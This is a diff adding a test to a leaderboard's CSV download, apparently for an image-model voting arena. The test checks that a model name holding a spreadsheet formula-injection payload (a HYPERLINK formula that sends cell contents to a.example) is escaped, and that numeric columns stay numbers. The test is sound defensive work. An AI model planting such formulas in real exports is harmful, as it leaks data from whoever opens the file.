@@ -23,6 +23,7 @@ from arena.votes.exclusions import lift_exclusion
 from evaluation.ratings.bradley_terry import fit_bradley_terry
 from evaluation.ratings.counts import count_votes
 from evaluation.ratings.ranks import find_rank_sets
+from generators.models import ImageModel
 from tests import builders
 from tests.concurrency import run_at_once
 from tests.transactions import refuse_in_transactions
@@ -254,6 +255,20 @@ def test_the_table_can_be_downloaded(board: Board, client: Client, kind: str, re
     assert list(frame["excluded_operator"]) == [1, 0, 1]
     assert not frame[["excluded_limit", "excluded_unsafe", "excluded_custom_prompt"]].any(axis=None)
     assert client.get(reverse("download", args=[board.slug, "exe"])).status_code == 404
+
+
+def test_csv_has_no_formulas_and_its_numbers_are_numbers(board: Board, client: Client) -> None:
+    a, b, _ = board.image_models.all()
+    ImageModel.objects.filter(pk=a.pk).update(name='=HYPERLINK("https://a.example?leak="&A1)', organization="@SUM(1)")
+    vote_on(board, a, b, "model_a", 30)
+    vote_on(board, a, b, "model_b", 1)
+    rate_board(board)
+    frame = pd.read_csv(io.BytesIO(client.get(reverse("download", args=[board.slug, "csv"])).content))
+    row = frame.set_index("model").loc[a.slug]
+    assert (row["name"], row["organization"]) == ('\'=HYPERLINK("https://a.example?leak="&A1)', "'@SUM(1)")
+    assert frame["rating"].dtype == frame["ci_low"].dtype == float
+    exact = client.get(reverse("download", args=[board.slug, "json"])).json()
+    assert {"=HYPERLINK", "@SUM(1)"} == {exact[0]["name"][:10], exact[0]["organization"]}
 
 
 def test_pages_say_that_there_are_no_votes_yet(client: Client, board: Board) -> None:
